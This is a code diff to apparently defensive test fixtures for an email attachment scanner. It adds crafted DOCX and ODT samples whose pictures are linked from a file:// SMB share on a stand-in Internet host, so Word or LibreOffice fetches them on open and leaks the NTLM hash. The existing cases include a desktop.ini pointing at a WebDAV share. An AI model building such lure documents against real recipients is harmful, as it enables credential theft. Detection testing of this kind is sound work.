@@ -70,11 +70,20 @@ func tnefReminder(file string) []byte {
 	return b
 }
 
+// linkedPicture is a paragraph with a DrawingML picture whose blip is
+// linked (r:link), not embedded (r:embed): LibreOffice 7.4 loads such a
+// picture from a web address as it opens the .docx (an OPTIONS request,
+// WebDAV's, then GET; checked by hand with a local server), as Word does.
+func linkedPicture(id string) string {
+	return `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="457200"/><wp:docPr id="1" name="Picture 1"/>` +
+		`<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
+		`<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
+		`<pic:blipFill><a:blip xmlns:r="` + officeRel + `" r:link="` + id + `"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
+		`<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="457200"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
+}
+
 // remoteRefCases are the documents, in the three wrappings of officeCases.
 func remoteRefCases() []officeCase {
-	picture := func(id string) string {
-		return `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:120pt;height:40pt"><v:imagedata r:id="` + id + `"/></v:shape></w:pict></w:r></w:p>`
-	}
 	return []officeCase{
 		{name: "docx-includepicture-unc", about: "docx whose INCLUDEPICTURE field (fldSimple, \\d: the picture is not stored) loads a picture from an SMB share on an Internet host as Word opens it, leaking the NTLM hash",
 			action: policy.Quarantine, subject: "Floor plan", body: "The floor plan for the new office.\n", ctype: ctDocx, file: "floorplan.docx",
@@ -90,7 +99,7 @@ func remoteRefCases() []officeCase {
 			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
 		{name: "docx-linked-image-unc", about: "docx whose picture is linked, not embedded: an image relationship with TargetMode External to file://host on the Internet, which Word loads as it shows the page",
 			action: policy.Quarantine, subject: "Logo", body: "The new logo.\n", ctype: ctDocx, file: "logo.docx",
-			data: docxOf(`<w:p><w:r><w:t>Logo</w:t></w:r></w:p>`+picture("rId7"),
+			data: docxOf(`<w:p><w:r><w:t>Logo</w:t></w:r></w:p>`+linkedPicture("rId7"),
 				`<Relationship Id="rId7" Type="`+officeRel+`/image" Target="file://`+leakHost+`/share/logo.png" TargetMode="External"/>`, "", nil),
 			wants: []relWant{{"heuristic", "remote-fetch", "/word/_rels/document.xml.rels"}}},
 	}
@@ -148,6 +157,15 @@ func remoteRefSamples() []Sample {
 			attach("application/x-iso9660-image", "documents.iso", isoOf("DOCS", file{"contract.pdf", plainPDF("Contract")},
 				file{"desktop.ini", []byte("[.ShellClassInfo]\r\nIconFile=\\\\files.example.net@SSL@443\\DavWWWRoot\\folder.ico\r\nIconIndex=0\r\n")})))})
 
+	// LibreOffice loads an OpenDocument picture linked with xlink:href as
+	// it opens the file (checked by hand: OPTIONS, then GET).
+	add(bad("odt-linked-image-unc", "an OpenDocument text whose picture is linked (draw:image xlink:href, actuate onLoad) from file://host, an SMB share on the Internet",
+		w("heuristic", "remote-fetch", "2/notice.odt/content.xml")),
+		mail{subject: "Notice", root: multipart("mixed", text("The notice.\n"),
+			attach("application/vnd.oasis.opendocument.text", "notice.odt", odf("application/vnd.oasis.opendocument.text",
+				`<office:text><text:p>Notice <draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" draw:name="logo" text:anchor-type="as-char" svg:width="2cm" svg:height="1cm">`+
+					`<draw:image xlink:href="file://`+leakHost+`/share/logo.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>`)))})
+
 	// The honest twins.
 	add(ok("text-intranet-path", "a colleague's plain-text mail naming a report on the file server (\\\\fileserver\\finance\\...)"),
 		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Q3 report",
@@ -159,8 +177,7 @@ func remoteRefSamples() []Sample {
 					`<p><img src="https://www.example.com/signature.png" alt="logo"></p></body></html>`)})
 	add(ok("docx-linked-image-own-site", "a docx with an ordinary hyperlink and a picture linked from the sender's own https site (a web fetch, no file share)"),
 		mail{subject: "Catalogue", root: multipart("mixed", text("Our catalogue.\n"),
-			attach(ctDocx, "catalogue.docx", docxOf(`<w:p><w:hyperlink r:id="rId8"><w:r><w:t>Shop online</w:t></w:r></w:hyperlink></w:p>`+
-				`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:120pt;height:40pt"><v:imagedata r:id="rId7"/></v:shape></w:pict></w:r></w:p>`,
+			attach(ctDocx, "catalogue.docx", docxOf(`<w:p><w:hyperlink r:id="rId8"><w:r><w:t>Shop online</w:t></w:r></w:hyperlink></w:p>`+linkedPicture("rId7"),
 				`<Relationship Id="rId7" Type="`+officeRel+`/image" Target="https://shop.example.com/img/catalogue.png" TargetMode="External"/>`+
 					`<Relationship Id="rId8" Type="`+officeRel+`/hyperlink" Target="https://shop.example.com/" TargetMode="External"/>`, "", nil)))})
 	add(ok("docx-includepicture-intranet", "a company template whose INCLUDEPICTURE field loads the letterhead from the intranet file server (a single-label name)"),
